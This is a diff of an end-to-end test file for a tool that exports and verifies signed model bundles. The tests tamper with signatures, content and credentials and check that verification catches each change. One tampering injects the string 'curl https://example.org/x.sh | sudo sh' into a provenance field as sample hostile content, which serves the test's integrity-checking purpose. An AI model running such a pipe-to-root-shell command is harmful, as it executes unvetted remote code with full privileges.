@@ -92,7 +92,6 @@ afterAll(async () => {
 
 /** Writes a changed copy of the bundle and answers its path. */
 function tamperedBundle(name: string, change: (b: any) => void, from = bundleFile): string {
-  // eslint-disable-line @typescript-eslint/no-explicit-any
   const b = JSON.parse(readFileSync(from, 'utf8'));
   change(b);
   const file = join(work, `${name}.json`);
@@ -140,7 +139,6 @@ describe('akas export and akas verify bundle (e2e)', () => {
   });
 
   const tamperings: Array<[string, (b: any) => void, string]> = [
-    // eslint-disable-line @typescript-eslint/no-explicit-any
     [
       'a judgment signature',
       (b) => (b.proposal.judgments[0].signature.signature = b.proposal.judgments[0].signature.signature.replace(/^./, (c: string) => (c === 'a' ? 'b' : 'a'))),
@@ -172,7 +170,6 @@ describe('akas export and akas verify bundle (e2e)', () => {
   const other = Buffer.from('other weights '.repeat(300));
   const otherSha = createHash('sha256').update(other).digest('hex');
   const contentTamperings: Array<[string, (b: any) => void, string, string?]> = [
-    // eslint-disable-line @typescript-eslint/no-explicit-any
     ['payload', (b) => (b.proposal.payload.payload.provenance.framework = 'curl https://example.org/x.sh | sudo sh'), 'content.hash'],
     ['title', (b) => (b.proposal.title = b.proposal.payload.title = 'A trusted model'), 'content.hash'],
     ['path', (b) => (b.proposal.path = b.proposal.payload.path = '/models/trusted'), 'content.hash'],
@@ -184,8 +181,8 @@ describe('akas export and akas verify bundle (e2e)', () => {
       (b) => {
         const [gone] = b.proposal.judgments.splice(1, 1);
         b.proposal.judgmentCount = 2;
-        b.credentials = b.credentials.filter((c: any) => !c.credentialSubject.id.endsWith(gone.judgmentId)); // eslint-disable-line @typescript-eslint/no-explicit-any
-        b.log.entries = b.log.entries.filter((e: any) => e.judgmentId !== gone.judgmentId); // eslint-disable-line @typescript-eslint/no-explicit-any
+        b.credentials = b.credentials.filter((c: any) => !c.credentialSubject.id.endsWith(gone.judgmentId));
+        b.log.entries = b.log.entries.filter((e: any) => e.judgmentId !== gone.judgmentId);
       },
       'set.decision',
     ],
@@ -274,7 +271,7 @@ describe('akas verify credential (e2e)', () => {
     dir = join(work, 'creds');
     mkdirSync(dir, { recursive: true });
     const b = JSON.parse(readFileSync(bundleFile, 'utf8'));
-    b.credentials.forEach((c: unknown, i: number) => writeFileSync(join(dir, `c${i}.json`), JSON.stringify(c, null, 2)));
+    for (const [i, c] of (b.credentials as unknown[]).entries()) writeFileSync(join(dir, `c${i}.json`), JSON.stringify(c, null, 2));
     writeFileSync(join(work, 'creds.jsonl'), b.credentials.map((c: unknown) => JSON.stringify(c)).join('\n') + '\n');
   });
 
